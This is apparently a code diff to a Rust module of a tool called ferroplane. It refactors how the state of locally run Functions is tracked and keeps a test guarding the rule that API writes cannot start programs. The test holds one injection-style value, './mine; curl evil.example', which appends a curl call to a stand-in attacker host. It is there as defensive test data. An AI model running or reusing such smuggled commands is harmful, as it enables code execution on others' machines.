@@ -7,18 +7,12 @@
 //! * Nothing that is written through the API starts a program, or says where one is: whoever may write a Function must not be able to
 //!   run code on this machine.
 
-pub(crate) mod conditions;
-
 use std::collections::BTreeMap;
-use std::net::SocketAddr;
 use std::sync::{Mutex, MutexGuard, PoisonError};
 
 use ferroplane_api::{Object, keys, meta};
+use ferroplane_engine::LocalProgram;
 use tokio::sync::watch;
-
-/// What is said of a command that is not run, in conditions and in errors.
-pub(crate) const COMMAND_IS_NOT_RUN: &str = "the command in the annotation render.ferroplane.io/command is not run: only Functions in files that are given to \
-     `ferroplane up FILES --allow-commands` start programs";
 
 /// The functions that programs on this machine serve, by the names of their Functions.
 #[derive(Debug, Default)]
@@ -33,20 +27,7 @@ pub struct LocalFunctions {
 pub struct LocalFunction {
     /// What the annotation of the Function has to say. One that says something else is somebody else's.
     pub command: String,
-    pub state: LocalState,
-}
-
-/// How the program is doing.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum LocalState {
-    Starting,
-    /// It serves there. Another instance of it may answer otherwise.
-    Running {
-        address: SocketAddr,
-        instance: String,
-    },
-    /// It ended or could not be started, for this reason.
-    Down(String),
+    pub state: LocalProgram,
 }
 
 impl LocalFunctions {
@@ -78,7 +59,7 @@ impl LocalFunctions {
     }
 
     /// How the program of a Function is doing. None if none was started for it.
-    pub(crate) fn state_of(&self, function: &Object) -> Option<LocalState> {
+    pub(crate) fn state_of(&self, function: &Object) -> Option<LocalProgram> {
         let functions = self.lock();
         let local = functions.get(meta::name(function))?;
         (local.command == command_of(function)?).then(|| local.state.clone())
@@ -94,17 +75,6 @@ pub(crate) fn command_of(function: &Object) -> Option<&str> {
     Some(meta::annotation(function, keys::FUNCTION_COMMAND)).filter(|command| !command.is_empty())
 }
 
-impl LocalState {
-    /// Why the function cannot be called, if it cannot. No times: it stands in conditions.
-    pub(crate) fn trouble(&self) -> Option<String> {
-        match self {
-            Self::Starting => Some("its program is being started".to_owned()),
-            Self::Running { .. } => None,
-            Self::Down(why) => Some(format!("its program does not run: {why}")),
-        }
-    }
-}
-
 #[cfg(test)]
 mod tests {
     use serde_json::json;
@@ -114,12 +84,12 @@ mod tests {
     #[test]
     fn function_whose_command_was_changed_through_the_api_has_no_program() {
         let functions = LocalFunctions::default();
-        functions.set("mine", LocalFunction { command: "./mine".to_owned(), state: LocalState::Starting });
+        functions.set("mine", LocalFunction { command: "./mine".to_owned(), state: LocalProgram::Starting });
         let function = |command: &str| {
             let annotations = json!({keys::FUNCTION_COMMAND: command});
             json!({"metadata": {"name": "mine", "annotations": annotations}}).as_object().cloned().unwrap()
         };
-        assert_eq!(functions.state_of(&function("./mine")), Some(LocalState::Starting));
+        assert_eq!(functions.state_of(&function("./mine")), Some(LocalProgram::Starting));
         assert_eq!(functions.state_of(&function("./mine; curl evil.example")), None);
         assert_eq!(functions.state_of(&function("")), None);
     }
